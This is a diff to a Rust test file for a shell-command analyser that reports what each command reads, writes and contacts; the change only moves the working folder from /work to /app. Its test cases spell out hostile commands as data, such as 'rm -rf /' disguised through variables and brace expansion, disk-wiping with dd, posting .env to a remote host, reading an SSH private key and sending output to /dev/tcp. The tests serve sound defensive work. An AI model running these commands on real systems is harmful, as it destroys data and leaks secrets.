@@ -7,7 +7,7 @@ mod hostile;
 
 /// The text's commands, one a line: program and words, `?` for what is not known, globs in backquotes.
 fn lines(text: &str) -> Vec<String> {
-    match shell(text, Some("/work")) {
+    match shell(text, Some("/app")) {
         Ok(read) => read.commands.iter().map(|c| line(&c.program, &c.args)).collect(),
         Err(why) => vec![format!("unknown: {why}")],
     }
@@ -32,7 +32,7 @@ fn shows(words: &[Word]) -> Vec<String> {
 }
 
 fn read(text: &str) -> Shell {
-    shell(text, Some("/work")).unwrap_or_else(|why| panic!("{text}: {why}"))
+    shell(text, Some("/app")).unwrap_or_else(|why| panic!("{text}: {why}"))
 }
 
 /// Each text runs exactly these commands.
@@ -54,7 +54,7 @@ fn quotes_and_expansions_give_the_words_that_bash_gives() {
         ("{rm,-rf,/}", &["rm|-rf|/"]),
         ("echo {a,b}{1..3} x{,y} {a {b}", &["echo|a1|a2|a3|b1|b2|b3|x|xy|{a|{b}"]),
         ("x=rm; $x -rf /", &["rm|-rf|/"]),
-        ("x='rm -rf /'; $x; \"$x\"", &["rm|-rf|/", "/work/rm -rf "]),
+        ("x='rm -rf /'; $x; \"$x\"", &["rm|-rf|/", "/app/rm -rf "]),
         ("x=a; x+=b; echo ${x}c \"${x:-d}\" ${y-} ${z:+w}", &["echo|abc|ab|?|?"]),
         ("x=rmx; ${x%x} /; ${x%%m*} ${#x}", &["rm|/", "r|3"]),
         ("a=(rm -rf); \"${a[@]}\" /; ${a[0]}", &["rm|-rf|/", "rm"]),
@@ -129,7 +129,7 @@ fn what_only_run_time_can_tell_is_marked() {
         "declare -n r=x",
         "read x; echo $((x))",
     ] {
-        if let Ok(read) = shell(text, Some("/work")) {
+        if let Ok(read) = shell(text, Some("/app")) {
             assert!(!read.is_static, "{text}");
             assert!(read.commands.iter().any(|c| c.program == Word::Unknown), "{text}: {:?}", lines(text));
         }
@@ -185,27 +185,27 @@ fn files_are_taken_from_the_folder_where_the_command_runs() {
         (shows(&read.reads).join(" "), shows(&read.writes).join(" "))
     };
     for (text, reads, writes) in [
-        ("cat a ../b /c", "/work/a /b /c", ""),
-        ("cat < a > b 2>> c", "/work/a", "/work/b /work/c"),
+        ("cat a ../b /c", "/app/a /b /c", ""),
+        ("cat < a > b 2>> c", "/app/a", "/app/b /app/c"),
         ("cd / && rm -rf x", "", "/x"),
-        ("cd sub; rm x", "", "/work/sub/x /work/x"),
-        ("cd $X; rm x", "", "? /work/x"),
-        ("(cd /a && b=1); rm x", "", "/work/x"),
-        ("cp a b c/", "/work/a /work/b", "/work/c"),
-        ("mv a b", "/work/a", "/work/a /work/b"),
-        ("rm -rf ./build dist", "", "/work/build /work/dist"),
-        ("rm -rf build/*.o", "", "`/work/build/*.o`"),
-        ("grep -r x src", "/work/src", ""),
-        ("grep -e x src", "/work/src", ""),
-        ("sed -i s/a/b/ f", "/work/f", "/work/f"),
+        ("cd sub; rm x", "", "/app/sub/x /app/x"),
+        ("cd $X; rm x", "", "? /app/x"),
+        ("(cd /a && b=1); rm x", "", "/app/x"),
+        ("cp a b c/", "/app/a /app/b", "/app/c"),
+        ("mv a b", "/app/a", "/app/a /app/b"),
+        ("rm -rf ./build dist", "", "/app/build /app/dist"),
+        ("rm -rf build/*.o", "", "`/app/build/*.o`"),
+        ("grep -r x src", "/app/src", ""),
+        ("grep -e x src", "/app/src", ""),
+        ("sed -i s/a/b/ f", "/app/f", "/app/f"),
         ("dd if=/dev/zero of=/dev/sda", "/dev/zero", "/dev/sda"),
-        ("tar czf a.tgz b", "/work/b", "/work/a.tgz"),
-        ("tar -xf a.tgz -C /c", "/work/a.tgz", "/c"),
-        ("curl -d @.env https://x -o out", "/work/.env", "/work/out"),
+        ("tar czf a.tgz b", "/app/b", "/app/a.tgz"),
+        ("tar -xf a.tgz -C /c", "/app/a.tgz", "/c"),
+        ("curl -d @.env https://x -o out", "/app/.env", "/app/out"),
         ("cat ~/.ssh/id_rsa", "~/.ssh/id_rsa", ""),
         ("find /a -name x -delete", "/a", "`/a/*`"),
-        ("find . -fprintf /home/.bashrc x", "/work", "/home/.bashrc"),
-        ("ls > /dev/null", "/work", ""),
+        ("find . -fprintf /home/.bashrc x", "/app", "/home/.bashrc"),
+        ("ls > /dev/null", "/app", ""),
         ("frobnicate x", "?", "?"),
     ] {
         assert_eq!(paths(text), (reads.to_owned(), writes.to_owned()), "{text}");
@@ -231,7 +231,7 @@ fn flags_targets_and_pipes() {
     assert_eq!(shows(&first("curl -s -X POST https://h/x").targets), ["https://h/x"]);
     assert_eq!(shows(&first("cat x > /dev/tcp/h/80").targets), ["h"]);
     assert_eq!(first("/usr/bin/rm x").program, Word::Literal("rm".to_owned()));
-    assert_eq!(first("./rm x").program, Word::Literal("/work/rm".to_owned()));
+    assert_eq!(first("./rm x").program, Word::Literal("/app/rm".to_owned()));
     assert_eq!(first("A=1 B=$X c").env.len(), 2);
     let read_all = read("a | tee b | c");
     assert_eq!(read_all.commands.last().unwrap().stdin_from, ["tee", "a"]);
@@ -273,7 +273,7 @@ fn code_for_interpreters_is_reported_with_where_it_comes_from() {
 #[test]
 fn what_is_outside_the_text_is_not_seen() {
     // SPEC: [S4.39]
-    assert_eq!(lines("./x.sh; ls; ssh h rm"), ["/work/x.sh", "ls", "ssh|h|rm", "rm"]);
+    assert_eq!(lines("./x.sh; ls; ssh h rm"), ["/app/x.sh", "ls", "ssh|h|rm", "rm"]);
     assert!(read("echo $((X + 1))").commands.iter().all(|c| c.program != Word::Unknown));
     assert_eq!(shows(&read("ssh h cat x").commands.last().unwrap().reads), ["?"]);
 }
